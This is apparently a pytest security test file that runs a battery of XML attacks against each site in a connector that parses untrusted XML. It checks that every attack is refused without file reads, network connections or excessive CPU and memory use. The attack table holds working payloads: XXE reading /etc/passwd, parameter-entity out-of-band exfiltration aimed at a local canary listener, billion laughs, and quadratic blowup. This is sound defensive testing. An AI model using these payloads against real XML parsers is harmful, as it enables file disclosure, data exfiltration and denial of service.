"""XML attacks against every place the connector parses XML (S4 of
../shared/reference/reliability-security.md; §4.6).

Each call site of `connector.safe_xml.parse_untrusted` is reached through the function that
owns it, with a document that site accepts (the control), and then the same document behind
each attack: XXE to a file and to a canary TCP listener, an external DTD, parameter entities,
out-of-band exfiltration, billion laughs, quadratic blowup and a plain DOCTYPE. Every attack
must be refused with the site's own error, read no file byte, open no connection, and cost at
most 1 s of CPU. A fresh interpreter measures the peak RSS the whole battery adds.
"""

from __future__ import annotations

import ast
import json
import select
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from adapters.sandbox.soap.envelope import SoapFault
from adapters.sandbox.soap.envelope import parse_xml as sandbox_parse_xml
from adapters.targets.autotask.soap.atws import Unreadable
from adapters.targets.autotask.soap.atws import parse as atws_parse
from adapters.targets.autotask.soap.envelopes import parse_queryxml
from connector.errors import ExtractionError, TargetRejected
from connector.payloads.extraction import extract_ticket_id
from connector.payloads.field_limits import InvalidPayload, parse_and_cut
from connector.payloads.field_limits import parse_xml as payload_parse_xml
from connector.safe_xml import XmlRefused, parse_untrusted

ROOT = Path(__file__).parent.parent.parent
#: The start of /etc/passwd: none of it may come back in a result or an error.
PASSWD_START = Path("/etc/passwd").read_text(encoding="utf-8")[:12]


@dataclass(frozen=True)
class Site:
    """One way into the hardened parser: a call with a document, the error that refuses it."""

    call: Callable[[bytes], Any]
    refusal: type[Exception]
    #: A document this site accepts; `{ref}` is where an attack puts its entity reference.
    document: str
    #: What the call returns for the document with `{ref}` = "ok" (the control).
    accepted: Callable[[Any], bool]


def _text_of(root: Any) -> str:
    return "".join(root.itertext())


SITES: dict[str, Site] = {
    "safe_xml.parse_untrusted": Site(
        parse_untrusted, XmlRefused, "<r><t>{ref}</t></r>", lambda r: _text_of(r) == "ok"
    ),
    # Rendered payloads (and, through extract_ticket_id, delivery responses).
    "field_limits.parse_xml": Site(
        payload_parse_xml, XmlRefused, "<r><t>{ref}</t></r>", lambda r: _text_of(r) == "ok"
    ),
    "field_limits.parse_and_cut": Site(
        lambda data: parse_and_cut(data.decode(), "xml", {"title": 10}),
        InvalidPayload,
        "<Ticket><Title>{ref}</Title></Ticket>",
        lambda out: "<Title>ok</Title>" in out,
    ),
    "extraction.extract_ticket_id": Site(
        lambda data: extract_ticket_id(data, "xml", "/r/id", {}),
        ExtractionError,
        "<r><id>42</id><t>{ref}</t></r>",
        lambda ticket_id: ticket_id == 42,
    ),
    # Autotask SOAP answers, and the queryxml the SOAP target pages through.
    "atws.parse": Site(
        atws_parse, Unreadable, "<r><t>{ref}</t></r>", lambda r: _text_of(r) == "ok"
    ),
    "envelopes.parse_queryxml": Site(
        lambda data: parse_queryxml(data.decode()),
        TargetRejected,
        "<queryxml><entity>Ticket</entity><query><field>Title"
        '<expression op="equals">{ref}</expression></field></query></queryxml>',
        lambda q: q.findtext("query/field/expression") == "ok",
    ),
    # The sandbox's SOAP endpoint (requests and the sXML inside them).
    "sandbox envelope.parse_xml": Site(
        sandbox_parse_xml, SoapFault, "<r><t>{ref}</t></r>", lambda r: _text_of(r) == "ok"
    ),
}

#: The functions that call parse_untrusted, and the SITES entry that reaches each one; a
#: function that re-parses XML it serialized itself (no outside bytes) says so instead.
CALLERS = {
    "connector/payloads/field_limits.py::parse_xml": "field_limits.parse_xml",
    "adapters/targets/autotask/soap/atws.py::parse": "atws.parse",
    "adapters/sandbox/soap/envelope.py::parse_xml": "sandbox envelope.parse_xml",
    "adapters/targets/autotask/soap/envelopes.py::after_id": "re-parses etree.tostring(its input)",
}

LAUGHS = "".join(
    f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
).replace("&lol0;", "&lol;")

#: Name: (what goes before the root, the entity reference inside it); {port} is the canary's.
ATTACKS: dict[str, tuple[str, str]] = {
    "xxe file": ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    "xxe http": ('<!DOCTYPE r [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/xxe">]>', "&x;"),
    "external dtd http": ('<!DOCTYPE r SYSTEM "http://127.0.0.1:{port}/r.dtd">', "ok"),
    "parameter entity file": ('<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>', "ok"),
    "parameter entity http": (
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/p.dtd"> %p;]>',
        "ok",
    ),
    "out-of-band exfiltration": (
        '<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/passwd">'
        "<!ENTITY % d \"<!ENTITY &#x25; x SYSTEM 'http://127.0.0.1:{port}/?%f;'>\"> %d; %x;]>",
        "ok",
    ),
    "billion laughs": (f'<!DOCTYPE r [<!ENTITY lol "lol">{LAUGHS}]>', "&lol9;"),
    # 100 KB entity used 100,000 times: 10 GB if expanded, from a 400 KB document.
    "quadratic blowup": ('<!DOCTYPE r [<!ENTITY a "' + "a" * 100_000 + '">]>', "&a;" * 100_000),
    "plain doctype": ("<!DOCTYPE r>", "ok"),
}


def attack_document(site: str, attack: str, port: int) -> bytes:
    """The site's accepted document behind `attack`, aimed at the canary on `port`."""
    prolog, reference = ATTACKS[attack]
    body = SITES[site].document.replace("{ref}", reference)
    return ('<?xml version="1.0"?>' + prolog.replace("{port}", str(port)) + body).encode()


class Canary:
    """A TCP listener on 127.0.0.1 that nobody should reach: it counts connections."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)  # the kernel completes handshakes into the backlog: none is missed
        self.sock.setblocking(False)
        self.port: int = self.sock.getsockname()[1]
        self.seen = 0

    def connections(self, wait: float = 0.0) -> int:
        """How many connections arrived so far, waiting up to `wait` s for a first new one."""
        select.select([self.sock], [], [], wait)
        while True:
            try:
                peer, _ = self.sock.accept()
            except BlockingIOError:
                return self.seen
            peer.close()
            self.seen += 1


@pytest.fixture
def canary() -> Iterator[Canary]:
    listener = Canary()
    yield listener
    listener.sock.close()


def test_the_canary_counts_a_connection(canary: Canary) -> None:
    assert canary.connections() == 0
    socket.create_connection(("127.0.0.1", canary.port), timeout=5).close()
    assert canary.connections(wait=5) == 1


@pytest.mark.parametrize("site", sorted(SITES))
def test_each_site_accepts_its_document_without_an_attack(site: str) -> None:
    document = SITES[site].document.replace("{ref}", "ok").encode()
    assert SITES[site].accepted(SITES[site].call(document))


@pytest.mark.parametrize("attack", sorted(ATTACKS))
@pytest.mark.parametrize("site", sorted(SITES))
def test_every_xml_attack_is_refused_at_every_site(canary: Canary, site: str, attack: str) -> None:
    document = attack_document(site, attack, canary.port)
    started_cpu, started = time.thread_time(), time.monotonic()

    with pytest.raises(SITES[site].refusal) as refused:
        SITES[site].call(document)

    # CPU time is what the parser spent (a loaded machine does not inflate it); the wall clock
    # only guards against a fetch that hangs.
    assert time.thread_time() - started_cpu <= 1.0
    assert time.monotonic() - started <= 10.0
    words = " ".join(repr(e) for e in _chain(refused.value))
    assert PASSWD_START not in words
    # Expanded entities only: a site may quote the document, whose entity holds 100,000 a's.
    assert "lollol" not in words and "a" * 100_001 not in words
    assert canary.connections() == 0


def _chain(error: BaseException | None) -> Iterator[BaseException]:
    """`error` and every error it was raised from."""
    while error is not None:
        yield error
        error = error.__cause__ or error.__context__


def _callers_of_parse_untrusted() -> set[str]:
    """Every function in connector/ and adapters/ that calls parse_untrusted, as path::name."""
    found = set()
    for path in [*ROOT.glob("connector/**/*.py"), *ROOT.glob("adapters/**/*.py")]:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for function in ast.walk(tree):
            if not isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef):
                continue
            if function.name == "parse_untrusted":
                continue
            for node in ast.walk(function):
                called = node.func if isinstance(node, ast.Call) else None
                name = getattr(called, "id", None) or getattr(called, "attr", None)
                if name == "parse_untrusted":
                    found.add(f"{path.relative_to(ROOT).as_posix()}::{function.name}")
    return found


def test_the_attack_table_reaches_every_caller_of_the_hardened_parser() -> None:
    assert _callers_of_parse_untrusted() == set(CALLERS)
    assert {site for site in CALLERS.values() if not site.startswith("re-parses")} <= set(SITES)


#: Runs in a fresh interpreter: peak RSS before any attack, then after the battery 3 times.
RSS_PROBE = """
import json, resource, sys
from tests.connector.test_safe_xml import ATTACKS, SITES, attack_document
port = int(sys.argv[1])
for site in SITES.values():  # imports, first parses and caches belong to the baseline
    site.call(site.document.replace("{ref}", "ok").encode())
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
refused = 0
for _ in range(3):
    for name, site in SITES.items():
        for attack in ATTACKS:
            try:
                site.call(attack_document(name, attack, port))
            except site.refusal:
                refused += 1
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"growth_kib": after - before, "refused": refused}))
"""


def test_the_whole_battery_adds_less_than_50_mb_of_peak_rss(canary: Canary) -> None:
    finished = subprocess.run(
        [sys.executable, "-c", RSS_PROBE, str(canary.port)],
        cwd=ROOT,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert finished.returncode == 0, finished.stderr
    measured = json.loads(finished.stdout)
    assert measured["refused"] == 3 * len(SITES) * len(ATTACKS)
    assert measured["growth_kib"] < 50 * 1024, measured
    assert canary.connections() == 0
